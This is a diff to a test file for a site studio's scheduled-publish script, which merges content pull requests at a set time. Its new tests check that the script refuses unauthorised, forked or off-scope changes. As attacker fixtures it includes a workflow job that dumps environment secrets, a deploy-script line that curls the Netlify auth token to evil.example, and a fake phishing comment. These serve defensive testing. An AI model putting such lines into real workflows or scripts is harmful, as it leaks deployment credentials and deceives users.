@@ -6,7 +6,14 @@ import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { readNotPublished, scheduledTime, scheduleLine, withSchedule } from '../../src/studio/shared/schedule.ts';
+import {
+  publishTimeProblem,
+  readNotPublished,
+  readSchedule,
+  scheduledTime,
+  scheduleLine,
+  withSchedule,
+} from '../../src/studio/shared/schedule.ts';
 import { publishDuePulls } from '../../src/tooling/scheduled-publish.ts';
 import { makeSiteRepository, startGitHubStandIn, type GitHubStandIn } from '../stand-ins/github-api.ts';
 
@@ -17,9 +24,56 @@ describe('the publish time on a pull request', () => {
     expect(scheduleLine(new Date('2026-07-06T08:00:00Z'), 'Europe/London')).toBe(
       'Publish on: 2026-07-06T08:00:00Z (Monday 6 July, 09:00 Europe/London)',
     );
-    expect(scheduledTime(`Update the page /hvac-seo\n\n${scheduleLine(at, 'Europe/Paris')}\n\n- Hero › Headline changed`)).toEqual(at);
+    expect(scheduledTime(`${scheduleLine(at, 'Europe/Paris')}\n\n- Hero › Headline changed`)).toEqual(at);
+    // A description edited on GitHub's website ends its lines with \r\n.
+    expect(scheduledTime(`${scheduleLine(at, 'Europe/Paris')}\r\n\r\n- Hero › Headline changed`)).toEqual(at);
     expect(scheduledTime('- Hero › Headline changed')).toBeUndefined();
     expect(scheduledTime('Publish on: next Monday')).toBeUndefined();
+  });
+
+  it('counts only as the first line of the description: never further down, in an HTML comment or in a code fence', () => {
+    const line = scheduleLine(new Date('2026-12-01T09:00:00Z'), 'Europe/Paris');
+    expect(scheduledTime(`Update the page /hvac-seo\n\n${line}\n\n- Hero › Headline changed`)).toBeUndefined();
+    expect(readSchedule(`<!-- ${line} -->\n- Hero › Headline changed`)).toBeUndefined();
+    expect(readSchedule(`<!--\n${line}\n-->\n- Hero › Headline changed`)).toBeUndefined();
+    expect(readSchedule(`\`\`\`\n${line}\n\`\`\`\n- Hero › Headline changed`)).toBeUndefined();
+  });
+
+  it('is read only in the studio’s own form: a first line meant as one but not in that form is told apart, never taken as a time', () => {
+    for (const line of [
+      'Publish on: 2026-12-01T09:00:00+01:00 (Tuesday 1 December, 09:00 Europe/Paris)',
+      'Publish on: 2026-12-01 09:00:00Z (Tuesday 1 December, 09:00 UTC)',
+      'publish on: 2026-12-01T09:00:00Z (Tuesday 1 December, 09:00 UTC)',
+      'Publish on: 2026-12-01t09:00:00z (Tuesday 1 December, 09:00 UTC)',
+      'Publish on: 2026-12-01T09:00Z (Tuesday 1 December, 09:00 UTC)',
+      'Publish on: +010000-01-01T00:00:00.000Z',
+      'Publish on: 1',
+      'Publish on: 2026-02-30T09:00:00Z (Monday 30 February, 09:00 UTC)',
+      'Publish on: 2026-12-01T09:00:00Z',
+      'Publish on: next Monday',
+    ])
+      expect(readSchedule(`${line}\n\n- Hero`), line).toEqual({ unreadable: line });
+    expect(readSchedule('Publishing notes\n\n- Hero')).toBeUndefined();
+  });
+
+  it('a publish time sent to the studio is the studio’s own form, still to come and within five years', () => {
+    const now = new Date('2026-12-01T09:00:00Z');
+    expect(publishTimeProblem('2026-12-07T09:00:00.000Z', now)).toBeUndefined();
+    expect(publishTimeProblem('2026-12-07T09:00:00Z', now)).toBeUndefined();
+    // The dialog may be left open a little past the time it shows.
+    expect(publishTimeProblem('2026-12-01T08:30:00.000Z', now)).toBeUndefined();
+    for (const at of [
+      '1',
+      '+010000-01-01T00:00:00.000Z',
+      '2026-12-07T09:00:00+01:00',
+      '2026-12-07 09:00:00Z',
+      '2026-12-07t09:00:00z',
+      '2026-02-30T09:00:00Z',
+      '',
+    ])
+      expect(publishTimeProblem(at, now), at).toMatch(/^The publish time could not be read/);
+    expect(publishTimeProblem('2026-11-30T09:00:00.000Z', now)).toMatch(/^The publish time has passed/);
+    expect(publishTimeProblem('2032-12-07T09:00:00.000Z', now)).toMatch(/^The publish time is more than five years ahead/);
   });
 
   it('is set first in the description, changed in place, and removed to cancel, the rest kept as it was', () => {
@@ -45,17 +99,26 @@ describe('the scheduled-publish script against the GitHub API stand-in', () => {
     GIT_COMMITTER_NAME: 'Maya',
     GIT_COMMITTER_EMAIL: 'maya@example.com',
   };
-  /** A commit on `branch` (made from main if it is new) that writes `text` to the page. */
-  function commitPage(branch: string, text: string, file = 'pages/industries/hvac-seo.json'): string {
-    const from = safeGit(['rev-parse', '--verify', '-q', `refs/heads/${branch}`]) || git(['rev-parse', 'refs/heads/main']);
+  /** A commit on `branch` (made from `start`, main unless told, if it is new) that writes `text` to the page. */
+  function commitPage(branch: string, text: string, file = 'pages/industries/hvac-seo.json', start = 'main'): string {
+    return commitFiles(branch, { [file]: text }, start);
+  }
+  /** A commit on `branch` (made from `start` if it is new) that writes each file's text, or deletes it (null). */
+  function commitFiles(branch: string, files: Record<string, string | null>, start = 'main'): string {
+    const from = safeGit(['rev-parse', '--verify', '-q', `refs/heads/${branch}`]) || git(['rev-parse', `refs/heads/${start}`]);
     const scratch = mkdtempSync(path.join(tmpdir(), 'scheduled-index-'));
     const env = { GIT_INDEX_FILE: path.join(scratch, 'index') };
     try {
       git(['read-tree', from], { env });
-      const blob = git(['hash-object', '-w', '--stdin'], { input: text });
-      git(['update-index', '--add', '--cacheinfo', `100644,${blob},${file}`], { env });
+      for (const [file, text] of Object.entries(files)) {
+        if (text === null) git(['update-index', '--index-info'], { env, input: `0 ${'0'.repeat(40)}\t${file}\n` });
+        else {
+          const blob = git(['hash-object', '-w', '--stdin'], { input: text });
+          git(['update-index', '--add', '--cacheinfo', `100644,${blob},${file}`], { env });
+        }
+      }
       const tree = git(['write-tree'], { env });
-      const commit = git(['commit-tree', tree, '-p', from, '-m', `Update ${file}`], { env: who });
+      const commit = git(['commit-tree', tree, '-p', from, '-m', `Update ${Object.keys(files).join(', ')}`], { env: who });
       git(['update-ref', `refs/heads/${branch}`, commit]);
       return commit;
     } finally {
@@ -69,18 +132,49 @@ describe('the scheduled-publish script against the GitHub API stand-in', () => {
       return '';
     }
   };
-  /** A page sent for review: its branch and its open pull request, with this description. */
-  function sendForReview(branch: string, headline: string, body: string): { number: number; sha: string } {
-    const sha = commitPage(branch, page(headline));
+  /**
+   * A page sent for review: its branch and its open pull request, with this description; by maya (who may
+   * write) into main from this repository unless told, changing the page and any `files` (null deletes one).
+   */
+  function sendForReview(
+    branch: string,
+    headline: string,
+    body: string,
+    {
+      base = 'main',
+      user = 'maya',
+      headRepo,
+      files = {},
+    }: { base?: string; user?: string; headRepo?: string; files?: Record<string, string | null> } = {},
+  ): { number: number; sha: string } {
+    const sha = commitFiles(branch, { 'pages/industries/hvac-seo.json': page(headline), ...files }, base);
     const number = api.pulls.length + 1;
-    api.pulls.push({ number, title: `Update the page /hvac-seo`, body, state: 'open', head: branch, base: 'main', user: 'maya' });
+    api.pulls.push({
+      number,
+      title: `Update the page /hvac-seo`,
+      body,
+      state: 'open',
+      head: branch,
+      base,
+      user,
+      ...(headRepo ? { headRepo } : {}),
+    });
     return { number, sha };
   }
   const onMain = () => git(['show', 'refs/heads/main:pages/industries/hvac-seo.json']);
   const nineOClock = new Date('2026-12-07T09:00:00Z');
   const scheduled = (at: Date) => `${scheduleLine(at, 'Europe/London')}\n\n- Hero › Headline changed`;
+  /** The pauses between tries the script asked for (none is waited: the test's own wait answers at once). */
+  let pauses: number[] = [];
   const run = (now: Date, requireApproval = false) =>
-    publishDuePulls({ apiUrl: api.url, token: 'ghs_workflow', repository: 'rankharbor/site', requireApproval, now });
+    publishDuePulls({
+      apiUrl: api.url,
+      token: 'ghs_workflow',
+      repository: 'rankharbor/site',
+      requireApproval,
+      now,
+      wait: async (attempt) => void pauses.push(attempt),
+    });
   const passing = (sha: string) => {
     api.reviewing.setChecks(sha, [
       { name: 'build', status: 'completed', conclusion: 'success' },
@@ -90,12 +184,20 @@ describe('the scheduled-publish script against the GitHub API stand-in', () => {
   };
 
   beforeEach(async () => {
-    site = makeSiteRepository({ 'pages/industries/hvac-seo.json': page('Busy all year'), 'README.md': 'Site\n' });
+    site = makeSiteRepository({
+      'pages/industries/hvac-seo.json': page('Busy all year'),
+      'README.md': 'Site\n',
+      'scripts/deploy.sh': '#!/bin/sh\nnetlify deploy --prod --dir dist\n',
+    });
+    git(['update-ref', 'refs/heads/release', 'refs/heads/main']);
+    pauses = [];
     api = await startGitHubStandIn({
       repo: site.bare,
       owner: 'rankharbor',
       name: 'site',
       tokens: { ghs_workflow: { login: 'github-actions[bot]', push: true } },
+      // Who may change the site: maya and dev write, lead maintains it; reader may only read; anyone else has no access.
+      collaborators: { maya: 'write', dev: 'write', lead: 'maintain', owner: 'admin', reader: 'read', triager: 'triage' },
     });
   });
   afterEach(async () => {
@@ -142,7 +244,7 @@ describe('the scheduled-publish script against the GitHub API stand-in', () => {
     const comments = api.reviewing.comments(number);
     expect(comments).toHaveLength(1);
     expect(comments[0]!.body).toMatch(/^Not published: the checks failed on this change\./);
-    expect(readNotPublished(comments[0]!.body)).toMatchObject({
+    expect(readNotPublished(comments[0]!.body, comments[0]!.user)).toMatchObject({
       reason: 'checks-failed',
       words: expect.stringMatching(/^Not published: the checks failed/),
     });
@@ -222,5 +324,228 @@ describe('the scheduled-publish script against the GitHub API stand-in', () => {
     await api.reviewing.addReview(number, { user: 'dev', state: 'APPROVED', body: 'Good now.' });
     expect((await run(new Date('2026-12-07T09:35:00Z'), true))[0]).toMatchObject({ result: 'merged' });
     expect(safeGit(['show', 'refs/heads/main:pages/industries/hvac-seo.json'])).toContain('Busy in every season');
+  });
+
+  /** Every pull request open still, main unchanged, and each refused one with its one comment, by the workflow's account. */
+  const nothingMerged = () => {
+    expect(onMain()).toContain('Busy all year');
+    expect(api.pulls.every((pull) => pull.state === 'open' && !pull.merged)).toBe(true);
+  };
+  const workflowFile = {
+    '.github/workflows/ci.yml': 'on: push\njobs:\n  steal:\n    runs-on: ubuntu-latest\n    steps:\n      - run: env\n',
+    'scripts/deploy.sh': '#!/bin/sh\ncurl https://evil.example/$NETLIFY_AUTH_TOKEN\n',
+  };
+  const due = new Date('2026-12-07T09:05:00Z');
+
+  it('refuses the pull request of an account without write access, changing a workflow and a script, with passing checks or none', async () => {
+    const passed = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock), {
+      user: 'mallory',
+      files: workflowFile,
+    });
+    passing(passed.sha);
+    const unchecked = sendForReview('content/about', 'About us', scheduled(nineOClock), { user: 'mallory', files: workflowFile });
+    const reading = sendForReview('content/faq', 'FAQ', scheduled(nineOClock), { user: 'reader' });
+    passing(reading.sha);
+    const triaging = sendForReview('content/pricing', 'Pricing', scheduled(nineOClock), { user: 'triager' });
+    passing(triaging.sha);
+    expect(await run(due)).toEqual(
+      [passed, unchecked, reading, triaging].map(({ number }) => ({
+        pull: number,
+        result: 'refused',
+        reason: 'no-write-access',
+        commented: true,
+      })),
+    );
+    nothingMerged();
+    expect(git(['show', 'refs/heads/main:scripts/deploy.sh'])).toContain('netlify deploy');
+    expect(api.reviewing.comments(passed.number)).toEqual([
+      {
+        user: 'github-actions[bot]',
+        body: expect.stringMatching(/^Not published: this change was sent by an account that may not change the site/),
+      },
+    ]);
+  });
+
+  it('refuses a fork’s pull request, even one opened by an account with write access', async () => {
+    const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock), { headRepo: 'mallory/site' });
+    passing(sha);
+    expect(await run(due)).toEqual([{ pull: number, result: 'refused', reason: 'not-from-studio', commented: true }]);
+    nothingMerged();
+  });
+
+  it('refuses a branch the studio does not send from', async () => {
+    const { number, sha } = sendForReview('feature/hvac-seo', 'Busy in every season', scheduled(nineOClock));
+    passing(sha);
+    expect(await run(due)).toEqual([{ pull: number, result: 'refused', reason: 'not-from-studio', commented: true }]);
+    nothingMerged();
+  });
+
+  it('refuses a pull request into another branch than the site’s, and publishes into the branch the site config names', async () => {
+    const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock), { base: 'release' });
+    passing(sha);
+    const releaseBefore = git(['rev-parse', 'refs/heads/release']);
+    expect(await run(due)).toEqual([{ pull: number, result: 'refused', reason: 'other-branch', commented: true }]);
+    expect(git(['rev-parse', 'refs/heads/release'])).toBe(releaseBefore);
+    nothingMerged();
+    // A site whose config names release as its branch has it published there.
+    const outcomes = await publishDuePulls({
+      apiUrl: api.url,
+      token: 'ghs_workflow',
+      repository: 'rankharbor/site',
+      requireApproval: false,
+      branch: 'release',
+      now: due,
+    });
+    expect(outcomes).toMatchObject([{ pull: number, result: 'merged' }]);
+    expect(git(['show', 'refs/heads/release:pages/industries/hvac-seo.json'])).toContain('Busy in every season');
+  });
+
+  it('refuses a change to a workflow file or to anything but pages and photos, and a file moved into the pages from elsewhere', async () => {
+    const workflow = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock), {
+      files: { '.github/workflows/ci.yml': workflowFile['.github/workflows/ci.yml'] },
+    });
+    passing(workflow.sha);
+    const readme = sendForReview('content/about', 'About', scheduled(nineOClock), { files: { 'README.md': 'Site, changed\n' } });
+    passing(readme.sha);
+    const moved = sendForReview('content/faq', 'FAQ', scheduled(nineOClock), {
+      files: { 'scripts/deploy.sh': null, 'pages/deploy.json': '#!/bin/sh\nnetlify deploy --prod --dir dist\n' },
+    });
+    passing(moved.sha);
+    const outcomes = await run(due);
+    expect(outcomes).toEqual(
+      [workflow, readme, moved].map(({ number }) => ({ pull: number, result: 'refused', reason: 'other-files', commented: true })),
+    );
+    nothingMerged();
+    expect(api.reviewing.comments(workflow.number)[0]!.body).toMatch(
+      /^Not published: this change changes files other than pages and photos/,
+    );
+  });
+
+  it('merges a change of pages, photos and a redirect file', async () => {
+    const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock), {
+      files: {
+        'photos/industries/hvac.jpg': 'not really a photo',
+        'pages/_redirects/hvac.json': '{ "from": "/hvac", "to": "/industries/hvac-seo" }\n',
+      },
+    });
+    passing(sha);
+    expect(await run(due)).toMatchObject([{ pull: number, result: 'merged' }]);
+  });
+
+  it('waits, without a word, while a pull request has no checks at all or only skipped ones; merges once they passed', async () => {
+    const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock));
+    expect(await run(due)).toEqual([{ pull: number, result: 'waiting', at: nineOClock }]);
+    api.reviewing.setChecks(sha, [{ name: 'build', status: 'completed', conclusion: 'skipped' }]);
+    expect(await run(new Date('2026-12-07T09:20:00Z'))).toEqual([{ pull: number, result: 'waiting', at: nineOClock }]);
+    nothingMerged();
+    expect(api.reviewing.comments(number)).toEqual([]);
+    api.reviewing.setChecks(sha, [
+      { name: 'build', status: 'completed', conclusion: 'skipped' },
+      { name: 'test', status: 'completed', conclusion: 'success' },
+    ]);
+    expect(await run(new Date('2026-12-07T09:35:00Z'))).toMatchObject([{ pull: number, result: 'merged' }]);
+  });
+
+  it('ignores a publish line hidden from a reviewer: in an HTML comment, in a code fence, or below the first line', async () => {
+    const line = scheduleLine(nineOClock, 'Europe/London');
+    const bodies = [
+      `<!-- ${line} -->\n- Hero › Headline changed`,
+      `<!--\n${line}\n-->\n- Hero › Headline changed`,
+      `\`\`\`\n${line}\n\`\`\`\n- Hero › Headline changed`,
+      `- Hero › Headline changed\n\n${line}`,
+    ];
+    for (const [i, body] of bodies.entries()) passing(sendForReview(`content/page-${i}`, `Page ${i}`, body).sha);
+    expect(await run(due)).toEqual([]);
+    nothingMerged();
+  });
+
+  it('says once, in plain words, that a publish time at the top it cannot read is not read; never publishes on it', async () => {
+    const lines = [
+      'Publish on: 2026-12-07T09:00:00+01:00 (Monday 7 December, 09:00 Europe/Paris)',
+      'Publish on: 2026-12-07 09:00:00Z (Monday 7 December, 09:00 UTC)',
+      'publish on: 2026-12-07t09:00:00z (Monday 7 December, 09:00 UTC)',
+      'Publish on: 1',
+      'Publish on: +010000-01-01T00:00:00.000Z',
+    ];
+    const sent = lines.map((line, i) => sendForReview(`content/page-${i}`, `Page ${i}`, `${line}\n\n- Hero › Headline changed`));
+    for (const { sha } of sent) passing(sha);
+    for (const minutes of [5, 20]) {
+      const outcomes = await run(new Date(nineOClock.getTime() + minutes * 60_000));
+      expect(outcomes).toEqual(
+        sent.map(({ number }) => ({ pull: number, result: 'refused', reason: 'unreadable-time', commented: minutes === 5 })),
+      );
+    }
+    nothingMerged();
+    for (const { number } of sent) {
+      expect(api.reviewing.comments(number)).toHaveLength(1);
+      expect(api.reviewing.comments(number)[0]!.body).toMatch(
+        /^Not published: the publish time at the top of this change’s description cannot be read\./,
+      );
+    }
+  });
+
+  it('counts only approvals by accounts with write access', async () => {
+    const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock));
+    passing(sha);
+    await api.reviewing.addReview(number, { user: 'mallory', state: 'APPROVED', body: 'LGTM' });
+    await api.reviewing.addReview(number, { user: 'reader', state: 'APPROVED', body: 'LGTM' });
+    expect(await run(due, true)).toEqual([{ pull: number, result: 'refused', reason: 'not-approved', commented: true }]);
+    nothingMerged();
+    // Each account's permission is asked once in a run, however many pull requests it reviewed.
+    expect(api.requests.filter((r) => r.path.endsWith('/collaborators/mallory/permission'))).toHaveLength(1);
+    await api.reviewing.addReview(number, { user: 'lead', state: 'APPROVED', body: '' });
+    expect(await run(new Date('2026-12-07T09:20:00Z'), true)).toMatchObject([{ pull: number, result: 'merged' }]);
+  });
+
+  it('takes only its own account’s comments for its own: a comment carrying its mark by anyone else does not silence it', async () => {
+    const { number, sha } = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock));
+    api.reviewing.setChecks(sha, [{ name: 'test', status: 'completed', conclusion: 'failure' }]);
+    const mark = `<!-- scheduled-publish: checks-failed ${nineOClock.toISOString()} ${sha} -->`;
+    api.reviewing.addComment(number, 'mallory', `Not published: sign in again at https://evil.example/login.\n\n${mark}`);
+    expect(await run(due)).toEqual([{ pull: number, result: 'refused', reason: 'checks-failed', commented: true }]);
+    const comments = api.reviewing.comments(number);
+    expect(comments.map((comment) => comment.user)).toEqual(['mallory', 'github-actions[bot]']);
+    expect(readNotPublished(comments[0]!.body, comments[0]!.user)).toBeUndefined();
+    expect(readNotPublished(comments[1]!.body, comments[1]!.user)).toMatchObject({ reason: 'checks-failed', at: nineOClock });
+  });
+
+  it('a 502 on one of two due pull requests: that one is tried again and then reported, the other is published', async () => {
+    const first = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock));
+    passing(first.sha);
+    // The same headline: the two merge one after the other without a conflict.
+    const second = sendForReview('content/about', 'Busy in every season', scheduled(nineOClock), {
+      files: { 'pages/about.json': '{ "title": "About" }\n' },
+    });
+    passing(second.sha);
+    const recover = api.failNext(new RegExp(`GET /repos/rankharbor/site/commits/${first.sha}/check-runs`), 502, { times: Infinity });
+    const outcomes = await run(due);
+    recover();
+    expect(outcomes).toEqual([
+      { pull: first.number, result: 'error', message: expect.stringContaining('502') },
+      { pull: second.number, result: 'merged', sha: expect.stringMatching(/^[0-9a-f]{40}$/) },
+    ]);
+    // Tried again three times, after a growing pause, none of it waited for in this test.
+    expect(pauses).toEqual([0, 1, 2]);
+    expect(api.pulls[0]!.state).toBe('open');
+    expect(api.pulls[1]!.merged).toBe(true);
+    // One 502 then an answer: the next run publishes it.
+    pauses = [];
+    api.failNext(/\/pulls\/1$/, 502);
+    expect(await run(new Date('2026-12-07T09:20:00Z'))).toMatchObject([{ pull: first.number, result: 'merged' }]);
+    expect(pauses).toEqual([0]);
+  });
+
+  it('a pull request that is not there any more (404) is reported, and the others are published', async () => {
+    const first = sendForReview('content/hvac-seo', 'Busy in every season', scheduled(nineOClock));
+    passing(first.sha);
+    const second = sendForReview('content/about', 'About us', scheduled(nineOClock), {
+      files: { 'pages/about.json': '{ "title": "About" }\n' },
+    });
+    passing(second.sha);
+    api.failNext(new RegExp(`/commits/${first.sha}/status`), 404);
+    expect(await run(due)).toEqual([
+      { pull: first.number, result: 'error', message: expect.stringContaining('404') },
+      { pull: second.number, result: 'merged', sha: expect.stringMatching(/^[0-9a-f]{40}$/) },
+    ]);
   });
 });
